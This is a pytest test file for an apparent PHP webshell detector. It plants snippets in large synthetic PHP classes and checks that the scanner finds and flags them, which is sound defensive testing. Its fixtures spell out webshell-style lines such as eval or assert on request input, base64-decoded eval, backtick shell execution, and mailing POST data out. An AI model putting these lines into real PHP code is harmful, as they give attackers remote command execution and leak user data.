"""What of a PHP file is read as a program: what is planted in it must be among it."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from unhijack.parse.plain.clues import Clues, Texts, calls, in_remark, near
from unhijack.parse.plain.files import plain_marks
from unhijack.parse.plain.php import php_signs
from unhijack.parse.plain.php_stretches import cut_out, stretches
from unhijack.parse.plain.program import Program, read_program
from unhijack.parse.plain.tells import stirring, stirs
from unhijack.parse.server.php.gate import telling

METHOD = b"""    /**
     * Says the word. Reads nothing of $_GET and never does eval( $words ).
     *
     * @param string $word
     * @since 1.0
     */
    public function say%d(string $word): string
    {
        if ($word === '') {
            throw new Missing('no word');
        }
        return trim($word) . ' is said';
    }

"""
HEAD = b"""<?php
/**
 * @license MIT
 * @package Words
 */

namespace Words;

class Words implements Speaking
{
"""
PLANTED = (
    b"eval($_POST['w']);",
    b"$f($_GET['w']);",
    b"assert($_REQUEST['w']);",
    b"eval(base64_decode($w));",
    b"call_user_func($_COOKIE['a'], $_COOKIE['b']);",
    rb'@include "\057var\x2fwords.ico";',
    b"$a = 'wo'.'rd'; $a($b);",
    b"preg_replace('/.*/e', $_POST['w'], '');",
    b"file_put_contents('words.php', $_POST['w']);",
    b"mail(base64_decode('d0B3LnRlc3Q='), 'words', $text);",
    b"echo `$_GET[w]`;",
    b"include $_FILES['w']['tmp_name'];",
)


def a_framework_file(planted: bytes = b"", after: int = 0) -> bytes:
    """A large class with something between two of its methods."""
    methods = [METHOD % number for number in range(80)]
    methods.insert(after, b"    public function more()\n    {\n        " + planted + b"\n    }\n\n")
    return HEAD + b"".join(methods) + b"}\n"


@pytest.mark.parametrize("after", [0, 40, 80])
@pytest.mark.parametrize("planted", PLANTED)
def test_what_is_planted_in_a_large_file_is_among_what_is_read(planted: bytes, after: int):
    content = a_framework_file(planted, after)
    parts = stretches(Clues(content))
    at = content.index(planted)
    assert any(start <= at and at + len(planted) <= end for start, end in parts)
    assert sum(end - start for start, end in parts) < len(content) / 2 or b"eval" in planted


def test_a_large_file_is_found_by_one_stretch_of_it():
    marks = plain_marks("words.php", a_framework_file(b"system($_POST['w']);", 40))
    assert marks[0].rule == "php-command-from-request"


def test_faint_marks_of_a_stretch_stand_where_they_stand_in_the_file():
    planted = b"$m = unserialize($_COOKIE['w']);"
    content = a_framework_file(planted, 40)
    (mark,) = plain_marks("words.php", content)
    assert mark.rule == "php-unserializes-request"
    assert content[mark.start : mark.end].startswith(b"unserialize($_COOKIE['w'])")


def test_of_a_clean_file_nothing_is_read():
    assert stretches(Clues(a_framework_file(b"return $this->words;"))) == []


@pytest.mark.parametrize(
    "code",
    [
        b"return $this->words->exec($_GET['w']);",
        b"return array_map('trim', $_POST['w']);",
        b"return usort($_POST['w'], fn ($a, $b) => $a <=> $b);",
        b"return require __DIR__ . '/words.php';",
        b"return (int)($_GET['w']);",
    ],
)
def test_ordinary_code_is_no_reason_to_read(code: bytes):
    assert stretches(Clues(a_framework_file(code))) == []


def test_a_file_that_nobody_looks_after_is_read_whole():
    content = b"<?php\n$w = $_POST['w'];\n" + b"echo 'words';\n" * 1_000 + b"passthru($w);\n"
    assert stretches(Clues(content)) == [(0, len(content))]


def test_encoded_texts_are_reason_enough_in_a_file_that_nobody_looks_after():
    content = b"<?php\n" + b"echo 'words';\n" * 500 + b"print('" + b"QUJD" * 400 + b"');\n"
    assert stretches(Clues(content)) == [(0, len(content))]


@pytest.mark.parametrize(
    ("code", "inside"),
    [
        (b"<?php\n/**\n * eval(1)\n */", True),
        (b"<?php\n/** */ $a = 2\n * eval(1);", False),
        (b"<?php\n$a = '\n/**\n' \n * eval(1);", False),
        (b"<?php\n$a = <<<W\n/**\nW\n * eval(1);", False),
        (b"?>\n/**\n * <?php eval(1);", False),
    ],
)
def test_only_what_surely_is_a_remark_is_passed_over(code: bytes, *, inside: bool):
    assert in_remark(code, code.index(b"eval")) is inside
    assert bool(Clues(code).places(calls("eval"))) is not inside


def test_a_stretch_of_code_is_read_as_code_and_one_of_a_page_as_a_page():
    content = b"<?php\n$a = 1;\n$b = 2;\n?>\n<p>words</p>\n<?php eval($a);\n"
    at = content.index(b"$b")
    piece, less = cut_out(content, (at, at + 7))
    assert piece == b"<?php\n$b = 2;"
    assert less + piece.index(b"$b") == at
    assert cut_out(content, (content.index(b"<p>"), len(content)))[0].startswith(b"<p>")


def test_nearness_is_told_from_the_first_to_the_last():
    assert near([100, 900], [90, 120, 5_000], 50) == [(90, 120)]


@pytest.mark.parametrize(
    "piece",
    [
        *(b"$_GET $a(", b"include a.b ", b"array_map(a(b,", b"preg_replace(a", b"\n * $_GET eval("),
        *(b"](", b"'.'a", b"${", b" " * 121 + b"a", b"\\x41\\", b"call_user_func(", b"`=`"),
    ],
)
def test_hostile_repetitions_cost_linear_time(piece: bytes):
    start = time.process_time()
    stretches(Clues(b"<?php $_POST[1]; " + piece * (2_000_000 // len(piece))))
    assert time.process_time() - start < 4


@given(st.binary(max_size=400), st.sampled_from(PLANTED))
def test_stretches_stay_within_any_bytes(noise: bytes, planted: bytes):
    content = HEAD + noise + planted + noise
    for start, end in stretches(Clues(content)):
        assert 0 <= start <= end <= len(content)


# -- small signs


QUIET = b"$page = wp_remote_get($this->address);"
"""A small sign, and nothing that makes a stretch by itself."""


def read_of(content: bytes, monkeypatch: pytest.MonkeyPatch) -> int:
    """Bytes of a file that are read as a program."""
    read: list[int] = []

    def counted(code: bytes) -> Program:
        read.append(len(code))
        return read_program(code)

    monkeypatch.setattr("unhijack.parse.plain.php.read_program", counted)
    php_signs(content)
    return sum(read)


def test_of_a_file_that_is_looked_after_only_what_stands_round_a_small_sign_is_read(monkeypatch):
    content = a_framework_file(QUIET, 40)
    assert stretches(Clues(content)) == []
    assert 0 < read_of(content, monkeypatch) < len(content) / 4


def test_a_file_without_such_words_is_read_whole_for_a_small_sign(monkeypatch):
    content = b"<?php\n" + b"$word = trim($word);\n" * 400 + QUIET
    assert read_of(content, monkeypatch) == len(content)


def test_a_small_sign_that_is_everywhere_is_reason_to_read_all(monkeypatch):
    content = a_framework_file(QUIET * 50, 40)
    assert stirring(Clues(content)) is None
    assert read_of(content, monkeypatch) == len(content)


@pytest.mark.parametrize("after", [0, 40, 80])
def test_what_is_planted_beside_a_small_sign_is_found(after: int):
    planted = b"if (getenv('w')) { wp_mail('w@words.test', 'w', print_r($_POST, true)); }"
    marks = plain_marks("words.php", a_framework_file(planted, after))
    assert max(mark.confidence for mark in marks) >= 0.5


@given(
    st.lists(
        st.sampled_from(
            (
                b"file",
                b"_append",
                b"'/tmp/",
                b"/tmp/",
                b" ",
                b"EVAL(get_",
                b"\xc3",
                b"\n",
                b"print_r($_",
            )
        )
        | st.binary(max_size=4),
        max_size=12,
    ).map(b"".join)
)
def test_texts_are_known_to_be_there_by_the_words_as_by_a_search(content: bytes):
    clues = Clues(content)
    wanted = (b"file_append", b"'/tmp/", b"(get_", b"print_r($_", b" \xc3", b"'", b"append")
    texts = Texts(*wanted, shared=(b"append",))
    assert clues.those(texts) == {text for text in wanted if text in content.lower()}


@given(st.binary(max_size=200))
def test_where_nothing_stirs_there_is_no_place(content: bytes):
    clues = Clues(content)
    assert stirs(clues) == (stirring(clues) != [])


def test_a_text_of_code_that_begins_with_a_name_begins_with_a_whole_one():
    clues = Clues(b"my_print_r($_POST)")
    assert clues.those(Texts(b"print_r($_", code=True)) == frozenset()
    assert clues.those(Texts(b"print_r($_")) == {b"print_r($_"}


# -- tiny files


@pytest.mark.parametrize(
    "does",
    [
        b"$w($x);",
        b"include 'words.php';",
        b"new COM('words');",
        b"unlink('words');",
        b"header('Location: https://words.test/');",
        b"add_action('words', 'say');",
        b"readfile($w);",
    ],
)
def test_a_tiny_file_is_read_for_anything_that_it_does(does: bytes):
    content = b"<?php " + does
    whole = [(0, len(content))]
    assert whole in (stretches(Clues(content)), telling(Clues(content)))


def test_a_tiny_file_that_does_nothing_is_not_read():
    content = b"<?php return array('word' => trim('said'), 'words' => count($words));"
    assert stretches(Clues(content)) == telling(Clues(content)) == []
